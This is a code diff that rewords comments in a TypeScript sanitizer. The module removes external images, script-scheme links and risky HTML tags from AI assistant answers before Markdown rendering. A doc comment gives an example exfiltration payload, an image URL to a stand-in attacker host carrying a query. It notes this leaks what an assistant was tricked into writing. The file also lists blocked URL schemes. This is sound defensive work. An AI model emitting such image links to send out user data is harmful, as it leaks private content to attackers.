@@ -2,22 +2,21 @@ import { changedTexts } from '../../../rules/typed/changed-texts.ts';
 import { LOOSE_TAG, type MarkdownPart, viewMarkdown } from './markdown-parts.ts';
 
 /**
- * Takes out of every text of an answer what programs that show Markdown would load, run or follow without anybody's wish: pictures that are not
- * of this site (`![](https://evil.example/?q=…)` sends what an assistant was made to write there), links that are programs
- * (`javascript:`), tags of HTML that do either. The text of a link and the alternative text of a picture stay. An answer without
- * any is handed back itself.
+ * Removes from every text of an answer what Markdown renderers would load, run or follow unasked: images of other sites
+ * (`![](https://evil.example/?q=…)` leaks what an assistant was tricked into writing there), script links (`javascript:`),
+ * and HTML tags that do either. Link texts and alternative texts stay. Returns the same object if nothing was removed.
  */
 export function forAssistants<T>(answer: T, publicUrl: string): T {
   return changedTexts(answer, (text) => textForAssistants(text, publicUrl));
 }
 
-/** None of them is without one of these: an address behind brackets, a definition, a tag. */
+/** Every one of them contains one of these: a target after brackets, a definition, a tag. */
 const SUSPECT = /\]\(|\]:|<[a-z!?/]/i;
 
-// What is found once more each time: an alternative text that was one of them, too.
+// Removal can expose another one: an alternative text may itself be an image.
 const MOST_ROUNDS = 5;
 
-/** The same for one text. */
+/** Does for one text what `sanitizeForAssistants` does for an answer. */
 export function textForAssistants(text: string, publicUrl: string): string {
   if (!SUSPECT.test(text)) return text;
   let left = text;
@@ -33,7 +32,7 @@ export function textForAssistants(text: string, publicUrl: string): string {
   return disarmed(left);
 }
 
-/** What stays of a part; undefined where all of it does. */
+/** Returns the replacement of a part; undefined if it may stay. */
 function wordsInstead({ kind, source, address, words }: MarkdownPart, publicUrl: string): string | undefined {
   switch (kind) {
     case 'image':
@@ -46,23 +45,23 @@ function wordsInstead({ kind, source, address, words }: MarkdownPart, publicUrl:
   }
 }
 
-// What browsers run or show as a page of its own making; others are of apps, as a product's own may be.
+// Schemes whose content browsers run or render as a page. Other schemes open apps, possibly the product's own.
 const PROGRAMS = new Set(
   ['javascript', 'vbscript', 'data', 'blob', 'filesystem', 'file', 'view-source', 'about'].map(
     (name) => `${name}:`,
   ),
 );
 
-// Programs that show Markdown take away more than browsers do: any blank or control character before and after an address.
+// Markdown renderers strip more than browsers do: any blank or control character around an address.
 const bare = (address: string): string => address.replace(/^[\s\p{Z}\p{C}]+|[\s\p{Z}\p{C}]+$/gu, '');
 
-// As browsers read it: without tabs, line breaks and what stands in front.
+// Parsed like in a browser, without tabs, line breaks and leading blanks.
 const isProgram = (address: string): boolean => PROGRAMS.has(URL.parse(bare(address))?.protocol ?? '');
 
-// A path of this site, as every program reads it: no scheme, no host, no backslash, no blank.
+// A path that every program resolves on this site: no scheme, no host, no backslash, no blank.
 const OWN_PATH = /^(?:[/#?](?![/\\])|[\w.-]+(?![\w.:-]))[^\\\s\p{Z}\p{C}]*$/u;
 
-/** Is it an address of this site, or one without a host? What programs could read in two ways is not. */
+/** Whether an address is on this site or has no host. An ambiguous address is not. */
 function isOwn(address: string, publicUrl: string): boolean {
   if (address.startsWith(`${publicUrl}/`)) return true;
   return address === '' || OWN_PATH.test(address);
@@ -100,7 +99,7 @@ const LOADING = new Set([
 ]);
 const TAG = /^<\/?([a-z][^\s/>]*)([^]*)$/i;
 const ATTRIBUTE = /([^\s"'<>/=]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]*)/g;
-/** Attributes that neither load nor run anything. */
+/** Attributes that load and run nothing. */
 const PLAIN = new Set([
   'alt',
   'title',
@@ -120,14 +119,14 @@ const PLAIN = new Set([
   'start',
 ]);
 
-/** What stays of a tag; undefined where all of it does. */
+/** Returns the replacement of a tag; undefined if it may stay. */
 function tagInstead(source: string, publicUrl: string): string | undefined {
   const [, name = '', rest = ''] = TAG.exec(source) ?? [];
   const tag = name.toLowerCase();
   const attributes = [...rest.matchAll(ATTRIBUTE)].map(
     ([, key = '', value = '']) => [key.toLowerCase(), value.replace(/^(["'])([^]*)\1$/, '$2')] as const,
   );
-  // People write of "the <script> tag"; without an attribute only <style> loads something, by what follows it.
+  // Prose may mention "the <script> tag". Without attributes, only <style> can load something, through its content.
   if (attributes.length === 0 && tag !== 'style' && source.endsWith('>')) return undefined;
   const isPlain = attributes.every(
     ([key, value]) =>
@@ -138,11 +137,11 @@ function tagInstead(source: string, publicUrl: string): string | undefined {
   if (isPlain && source.endsWith('>') && (tag === 'img' || !LOADING.has(tag))) return undefined;
   if (!source.endsWith('>')) return disarmed(source);
   if (tag === 'img') return attributes.find(([key]) => key === 'alt')?.[1] ?? '';
-  // `a < b and c = d > e` is read as a tag, too.
+  // `a < b and c = d > e` also parses as a tag.
   return tag === 'a' || LOADING.has(tag) ? '' : disarmed(source);
 }
 
-/** A text with a part of it replaced wherever it stands, in quotes, lists and tables, too. */
+/** Replaces every occurrence of a part in a text, also inside block quotes, lists and tables. */
 function replaced(text: string, source: string, words: (found: string) => string): string {
   const plain = text.replaceAll(source, words);
   if (plain !== text || !/[\n|]/.test(source)) return plain;
@@ -154,8 +153,8 @@ function replaced(text: string, source: string, words: (found: string) => string
 }
 
 /**
- * A text in which nothing but the known parts looks like an address or a tag to a parser that reads it another way: some take a blank
- * between bracket and address, none a backslash. Private characters stand for the known parts meanwhile: texts hold none.
+ * Escapes whatever other parsers could read as a link or a tag, except the known parts: some parsers allow a blank between
+ * bracket and address, none a backslash. Private-use characters, which texts never hold, mark the known parts in between.
  */
 function withRestDisarmed(text: string, known: string[], publicUrl: string): string {
   const parts: string[] = [];
@@ -175,6 +174,6 @@ function withRestDisarmed(text: string, known: string[], publicUrl: string): str
   return rest.replace(/\uE000(\d+)\uE001/g, (_, at: string) => parts[Number(at)] ?? '');
 }
 
-/** A text in which no parser finds an address or a tag: a backslash stands behind the bracket, a blank in the tag. */
+/** Escapes a text so that no parser finds a link or a tag: a backslash after the bracket, a blank inside the tag. */
 const disarmed = (text: string): string =>
   text.replace(/\](?=[(:])/g, ']\\').replace(/<(?=[a-z!?/])/gi, '< ');
